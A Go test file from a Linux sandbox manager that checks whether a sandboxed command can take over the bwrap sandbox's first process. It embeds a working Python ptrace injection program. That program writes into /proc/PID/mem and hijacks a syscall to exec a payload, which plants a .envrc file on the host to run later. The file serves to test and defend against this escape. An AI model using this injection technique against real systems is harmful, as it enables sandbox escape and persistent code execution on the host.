//go:build linux

package battery

import (
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// takeOverInit is a command's program (x86-64): it attaches to the
// first process of a bwrap sandbox's pid namespace (bwrap's own, at rest
// for the whole session, run as the command's user) with ptrace, and
// has it exec a Python program that writes .envrc a moment after the
// command's end (its strings written through /proc/PID/mem, an execve
// put at the system call it was stopped in).
const takeOverInit = `import os, ctypes, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs".split()]
pid = int(sys.argv[1])
ws = os.getcwd()
payload = ("import time\ntime.sleep(1.5)\nopen(%r,'w').write('touch pwned\\n')\nopen(%r,'w').close()\ntime.sleep(30)\n" % (ws + '/.env' + 'rc', ws + '/wrote'))
if libc.ptrace(16, pid, None, None) != 0:
    print('attach failed', ctypes.get_errno()); sys.exit(0)
os.waitpid(pid, 0x40000000)
r = Regs()
libc.ptrace(12, pid, None, ctypes.byref(r))
mem = os.open('/proc/%d/mem' % pid, os.O_RDWR)
code = os.pread(mem, 2, r.rip - 2)
if code != b'\x0f\x05':
    print('not at a syscall', code.hex(), hex(r.rip)); libc.ptrace(17, pid, None, None); sys.exit(0)
base = (r.rsp - 8192) & ~0xf
strs = [b'/usr/bin/python3\0', b'-c\0', payload.encode() + b'\0']
addrs = []
off = base
blob = b''
for s in strs:
    addrs.append(off + len(blob))
    blob += s
argv_addr = (base + len(blob) + 16) & ~0xf
blob = blob.ljust(argv_addr - base, b'\0') + struct.pack('<4Q', addrs[0], addrs[1], addrs[2], 0)
os.pwrite(mem, blob, base)
r.rax = 59; r.orig_rax = 0xffffffffffffffff
r.rdi = addrs[0]; r.rsi = argv_addr; r.rdx = 0
r.rip -= 2
libc.ptrace(13, pid, None, ctypes.byref(r))
libc.ptrace(17, pid, None, None)
print('injected', pid)
`

// TestSessionInitTakenOver: bwrap's first process in a session's sandbox
// is one of its processes at rest, which the manager never counts as
// left running by a command (as the network forwarder was, see
// TestSessionForwarderNotTraceable). A command that takes it over
// (ptrace, /proc/1/mem: where no Yama setting forbids it, ptrace_scope 0
// or no Yama, as on Debian's kernels) has it write the guarded places
// after the command's end, while the session gives its ticket back: the
// next ticket trusts what it wrote. bwrap's process is not cordon's to
// make undumpable: the keeper starts the commands in a Landlock domain
// of their own (platform.NestCommands), from which no process outside
// it can be traced.
func TestSessionInitTakenOver(t *testing.T) {
	if runtime.GOARCH != "amd64" {
		t.Skip("the program's registers are x86-64's")
	}
	python := needPython(t)
	r := newSessionRig(t, "bwrap")
	r.sh("true")
	os.WriteFile(filepath.Join(r.ws, "inject.py"), []byte(takeOverInit), 0o644)
	out, errs, code := r.sh(python + " inject.py 1")
	switch {
	case code == 0 && strings.HasPrefix(out, "attach failed"):
		return // (what must be)
	case code != 0 || out != "injected 1\n":
		t.Skipf("neither taken over nor refused (exit %d): %q %s", code, out, errs)
	case landlockABI() < 6:
		t.Skip("taken over: this kernel's Landlock (ABI below 6) cannot put the commands in a domain of their own, and nothing else forbids tracing here (docs/session.md)")
	}
	r.waitWrote("the process taken over")
	time.Sleep(time.Second)
	r.sh("true")
	if _, err := os.Stat(filepath.Join(r.ws, ".envrc")); err == nil {
		t.Errorf(".envrc written by bwrap's first process, taken over by a command, is on the host after the next command")
	}
}

// landlockABI is the kernel's Landlock ABI version, 0 without Landlock.
func landlockABI() int {
	v, _, errno := unix.Syscall(unix.SYS_LANDLOCK_CREATE_RULESET, 0, 0, unix.LANDLOCK_CREATE_RULESET_VERSION)
	if errno != 0 {
		return 0
	}
	return int(v)
}
